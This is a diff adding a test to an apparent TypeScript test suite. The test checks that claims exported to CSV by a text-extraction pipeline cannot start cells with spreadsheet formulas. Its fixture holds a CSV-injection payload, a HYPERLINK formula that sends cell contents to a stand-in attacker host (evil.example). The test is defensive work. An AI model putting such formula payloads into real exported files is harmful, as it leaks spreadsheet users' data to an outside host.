@@ -126,6 +126,19 @@ describe('ingest: hostile text stays verbatim text', () => {
   });
 });
 
+describe('claims.csv: article text opened in a spreadsheet', () => {
+  // A quote that starts with = + - @ is a formula to Excel or LibreOffice, even inside quotes
+  // (CSV injection). Fix in pipeline/extract.ts csvField: when the text starts with one of
+  // = + - @ tab or CR and is not a number, write it with a leading apostrophe ('=HYPERLINK…).
+  it.fails('no cell starts like a formula', async () => {
+    const { extract, claimsToCsv } = await import('../pipeline/extract.ts');
+    const text = `${hostileText.split('\n---\n')[0]}\n---\n=HYPERLINK("https://evil.example/?d="&A1,"x") Turnout was 54.19%.\n@SUM(1+1) Amanat won 53.9% of the vote.\n`;
+    const csv = claimsToCsv(extract(ingest([{ file: 'sources/hostile.md', text }], lexicon), lexicon));
+    expect(csv).toContain('HYPERLINK');
+    expect(csv).not.toMatch(/(^|,)"?([=+@\t\r]|-(?!\d))/m);
+  });
+});
+
 /** Claims and figures made from the hostile sentences: each number in a sentence, as a claim. */
 function claimsFor(s: IngestedSource): { claims: Claim[]; figures: Figure[] } {
   const claims: Claim[] = [];
